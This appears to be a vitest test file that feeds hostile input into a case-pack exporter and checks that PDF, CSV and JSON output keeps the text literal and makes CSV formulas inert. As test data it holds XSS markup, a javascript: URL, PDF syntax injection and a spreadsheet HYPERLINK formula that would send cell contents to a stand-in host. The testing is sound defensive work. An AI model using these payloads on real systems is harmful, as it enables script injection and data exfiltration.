// A hostile case (markup, formula injection, PDF syntax, 10,000-character fields, mixed scripts, emoji) built
// into a pack and exported to PDF, CSV and JSON: nothing breaks and the person's text stays literal text.
import { beforeAll, describe, expect, it } from 'vitest';

import { PRODUCT_VERSION } from '../../product';
import { parseCaseFile, serializeCaseFile } from '../../case/case-file';
import type { Case } from '../../case/schema';
import { selectReferrals } from '../../referrals/select';
import { assess } from '../../triage/assess';
import { buildPackDocument, buildRecordsCsv, PACK_PRESETS } from './build-pack';
import type { PackFonts } from '../pdf/fonts';
import { redactCase } from './pack-format';
import { renderPackPdf } from '../pdf/render-pdf';
import { extractPdfText } from '../testing/extract-pdf-text';
import { parseCsv } from '../testing/parse-csv';
import { packTranslators } from '../testing/pack-translator';
import { readPackFonts } from '../testing/read-pack-fonts';
import { SAMPLE_NOW, sampleCase } from '../testing/sample-case';

const MARKUP = '<script>alert(1)</script><img src=x onerror=alert(2)>';
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const PDF_SYNTAX = ')\\( BT /F1 12 Tf (x) Tj ET endstream endobj %%EOF';
const SCRIPTS = 'שלום مرحبا Αθήνα Москва 中文 한국어 😀🦊👩‍👩‍👧🇧🇷 \u202Eoverride\u202C';
const LONG = `${MARKUP} ${SCRIPTS} `.repeat(200).slice(0, 10_000);

function hostileCase(): Case {
  return sampleCase((input) => {
    input.account = LONG;
    input.answers = { ...input.answers, contact_platform: `${FORMULA} ${MARKUP}`.slice(0, 200) };
    input.payments = [
      {
        id: 'h1',
        paidAt: '2026-03-04',
        amount: 12.5,
        currency: 'EUR',
        method: 'bank_transfer',
        recipient: { name: FORMULA, bank: MARKUP, account: `+${SCRIPTS}`.slice(0, 200) },
        reference: '@SUM(1+1)',
        notes: `-2+3 ${LONG}`.slice(0, 2000),
      },
      { id: 'h2', amount: 1, currency: 'USDT', notes: PDF_SYNTAX },
    ];
    input.identifiers = [
      { id: 'hi1', kind: 'other', value: `${MARKUP}${SCRIPTS}`, notes: LONG.slice(0, 2000) },
      { id: 'hi2', kind: 'website', value: FORMULA, platform: PDF_SYNTAX },
    ];
    input.evidence = [
      {
        id: 'he1',
        kind: 'other',
        description: LONG.slice(0, 2000),
        fileName: `${MARKUP}.png`.slice(0, 300),
        mimeType: 'image/png',
        sizeBytes: 10,
        sha256: 'b5a931ccf24cd69896178d09f2c2a2ca60d0b6e7dafe6b27ec2d36bc6c412679',
      },
    ];
    input.reportsMade = [{ id: 'hr1', kind: 'other', organisation: SCRIPTS, reference: FORMULA }];
    input.ownContacts = [{ id: 'ho1', kind: 'victim_support', name: MARKUP, url: 'javascript:alert(1)' }];
  });
}

let fonts: PackFonts;
beforeAll(async () => {
  fonts = await readPackFonts();
});

describe('a hostile case', () => {
  const caseData = hostileCase();
  const assessment = assess(caseData, { now: SAMPLE_NOW });
  const selection = selectReferrals(assessment, caseData);

  it.each(PACK_PRESETS)(
    'renders the %s pack to a PDF that reads back with the text literal',
    async (preset) => {
      const doc = buildPackDocument({
        caseData,
        assessment,
        selection,
        preset,
        lang: 'es',
        secondLang: preset === 'full' ? 'en' : undefined,
        t: packTranslators,
        generatedAt: '2026-03-05T10:00:00.000Z',
        appVersion: PRODUCT_VERSION,
        includeSensitive: true,
      });
      const pdf = await renderPackPdf(doc, fonts, { pageSize: preset === 'bank' ? 'letter' : 'a4' });
      expect(new TextDecoder().decode(pdf.subarray(0, 5))).toBe('%PDF-');
      const { text } = await extractPdfText(pdf);
      const flat = text.replace(/\s+/gu, '');
      expect(flat).toContain('<script>alert(1)</script>');
      if (preset !== 'support') expect(flat).toContain('=HYPERLINK("http://evil.example/?x="&A1,"Click")');
      expect(text).toContain('Москва');
    },
  );

  it('exports the records to CSV with formulas made inert, and every cell reads back', () => {
    const csv = buildRecordsCsv(caseData, packTranslators('en'));
    const rows = parseCsv(csv.replace(/^\uFEFF/, ''));
    // Payments (header and 2), then for identifiers, evidence, reports and own contacts: blank, title, header, rows.
    expect(rows).toHaveLength(3 + (3 + 2) + (3 + 1) + (3 + 1) + (3 + 1));
    const [header, first, second, blank, title] = rows;
    expect(blank?.every((cell) => cell === '')).toBe(true);
    expect(title?.[0]).toBe('The other party');
    const cells = rows.flat();
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells).not.toContain(FORMULA);
    expect(cells).toContain(`${MARKUP}${SCRIPTS}`);
    expect(cells).toContain('javascript:alert(1)');
    expect(header?.[0]).toBe('Date and time');
    expect(first?.[1]).toBe('12.5');
    expect(first?.[6]).toBe(`'${FORMULA}`);
    expect(first?.[7]).toBe(MARKUP);
    expect(first?.[8]?.startsWith("'+")).toBe(true);
    expect(first?.[13]).toBe("'@SUM(1+1)");
    expect(first?.[14]?.startsWith("'-2+3")).toBe(true);
    expect(second?.[14]).toBe(PDF_SYNTAX);
    for (const row of rows) expect(row).toHaveLength(header?.length ?? 0);
  });

  it('round-trips through the case file JSON, whole and redacted', () => {
    for (const version of [caseData, redactCase(caseData, assessment.incidentTypes)]) {
      const parsed = parseCaseFile(JSON.parse(serializeCaseFile(version)));
      expect(parsed.ok).toBe(true);
      if (parsed.ok) expect(parsed.case).toEqual(version);
    }
  });
});
